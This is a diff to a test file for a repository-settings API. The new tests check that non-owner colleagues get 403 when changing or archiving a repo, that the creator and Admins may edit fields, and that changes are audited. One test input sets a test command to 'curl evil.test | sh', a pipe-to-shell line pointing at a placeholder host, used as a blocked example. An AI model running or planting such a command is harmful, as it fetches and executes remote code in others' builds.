@@ -47,12 +47,42 @@ withRunsHost(open => {
       expect(await now()).toEqual(repo);
     });
 
-    it('is for every Developer of the project, field by field', async () => {
+    it('is not for colleagues, in whose runs it would take effect', async () => {
       const colleague = 'Developer:bob:default';
-      const named = await patch({ name: '  Store ' }, colleague);
+      for (const body of [{ test_command: 'curl evil.test | sh' }, { default_branch: 'x' }, {}]) {
+        expect(await patch(body, colleague)).toMatchObject({
+          status: 403,
+          body: { code: 'forbidden' },
+        });
+      }
+      const archived = await host.send('DELETE', `/v1/repos/${repo.id}`, undefined, {
+        caller: colleague,
+      });
+      expect(archived.status).toBe(403);
+      expect(await now()).toEqual(repo);
+    });
+
+    it('is on record, whoever does it, with what was changed', async () => {
+      const admin = 'Admin:ada:default';
+      host.audited.length = 0;
+      await patch({ test_command: 'make test', name: repo.name });
+      await patch({ test_command: 'make test' });
+      await patch({ default_branch: 'next', name: 'New' }, admin);
+      await host.send('DELETE', `/v1/repos/${repo.id}`, undefined, { caller: admin });
+      const target = repo.id;
+      expect(host.audited).toMatchObject([
+        { principal: 'ann', action: 'repos.update', target, reason: 'test_command' },
+        { principal: 'ada', action: 'repos.update', target, reason: 'name, default_branch' },
+        { principal: 'ada', action: 'repos.archive', target },
+      ]);
+    });
+
+    it('is for its creator and for Admins, field by field', async () => {
+      const admin = 'Admin:ada:default';
+      const named = await patch({ name: '  Store ' });
       expect(named).toMatchObject({ status: 200, body: { ...repo, name: 'Store' } });
       const rest = { default_branch: 'release/2', test_command: 'npm test' };
-      expect((await patch(rest, colleague)).body).toEqual({ ...repo, name: 'Store', ...rest });
+      expect((await patch(rest, admin)).body).toEqual({ ...repo, name: 'Store', ...rest });
       expect((await patch({ test_command: null })).body.test_command).toBeNull();
       expect((await patch({})).body).toEqual(await now());
       expect(await now()).toEqual({ ...repo, name: 'Store', default_branch: 'release/2' });
